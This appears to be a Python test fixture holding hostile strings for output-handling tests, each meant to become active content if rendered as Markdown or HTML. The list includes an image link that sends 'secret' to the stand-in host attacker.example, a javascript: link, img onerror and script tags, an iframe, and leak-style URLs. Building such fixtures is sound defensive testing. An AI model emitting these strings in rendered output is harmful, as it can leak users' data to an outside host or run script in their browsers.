"""Hostile text for the output-handling tests: each line would be active content if rendered as Markdown or HTML."""

from __future__ import annotations

ATTACKER = "attacker.example"
PAYLOADS = [
    "![logo](https://attacker.example/logo.png?q=secret)",
    "[the manual](javascript:alert('link'))",
    "[docs](https://attacker.example/docs)",
    "<https://attacker.example/angle>",
    "https://attacker.example/bare?leak=1",
    "www.attacker.example/www",
    "mail admin@attacker.example",
    "<img src=https://attacker.example/i.png onerror=alert('img')>",
    "<script>alert('script')</script>",
    "<iframe src=https://attacker.example/frame></iframe>",
    ":red[styled] :smile: $e^x$ **bold** # heading",
    "[ref]: https://attacker.example/ref",
    "![r][ref]",
]
HOSTILE_TEXT = "\n".join(PAYLOADS)
